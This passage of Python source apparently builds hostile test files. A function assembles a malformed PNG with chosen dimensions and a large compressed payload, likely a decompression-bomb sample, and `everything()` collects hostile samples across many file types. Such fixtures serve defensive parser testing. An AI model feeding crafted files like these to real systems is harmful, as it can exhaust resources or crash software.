    header = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\x00" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def everything() -> list[Hostile]:
    """All of them."""
    makers = (programs, markup, texts, archives, pdfs, office, containers, open_documents, images)
    return [one for maker in makers for one in maker()]
